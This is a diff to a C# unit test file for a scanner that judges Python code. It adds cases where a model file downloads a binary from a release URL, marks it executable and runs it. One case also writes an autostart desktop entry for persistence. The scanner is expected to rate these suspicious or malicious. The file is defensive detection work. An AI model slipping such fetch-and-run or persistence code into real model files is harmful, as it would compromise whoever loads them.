@@ -109,6 +109,19 @@ public sealed class PythonAnalysisTests
     public void An_attack_is_malicious_and_told(string code, string words) => ScanAssert.Malicious(Encoding.UTF8.GetBytes(code), words, "code.py");
 
     [Theory]
+    [InlineData("def trace():\n    {0}\n", Verdict.Suspicious)]
+    [InlineData("class Model:\n    def trace(self):\n        {0}\n", Verdict.Suspicious)]
+    [InlineData("def trace():\n    {0}\ntrace()\n", Verdict.Malicious)]
+    [InlineData("class Model:\n    def __init__(self):\n        {0}\n", Verdict.Malicious)]
+    [InlineData("def trace():\n    {0}\n    open(os.path.expanduser('~/.config/autostart/a.desktop'), 'w').write('[Desktop Entry]\\nExec=/tmp/tool')\n", Verdict.Malicious)]
+    public void A_tool_of_a_code_host_weighs_less_where_somebody_has_to_ask_for_it(string code, Verdict verdict)
+    {
+        var fetch = "urllib.request.urlretrieve('https://github.com/owner/tool/releases/download/v1/tool', '/tmp/tool'); subprocess.run(['chmod', '+x', '/tmp/tool']); subprocess.run(['/tmp/tool', 'attach'])";
+        var report = ScanAssert.Scan(Encoding.UTF8.GetBytes("import os, subprocess, urllib.request\n" + code.Replace("{0}", fetch, StringComparison.Ordinal)), "modeling_x.py");
+        Assert.True(report.Verdict == verdict, ScanAssert.Describe(report));
+    }
+
+    [Theory]
     [MemberData(nameof(Honest))]
     public void Honest_code_that_looks_like_it_is_clean(string code) => ScanAssert.Clean(Encoding.UTF8.GetBytes(code), "code.py");
 
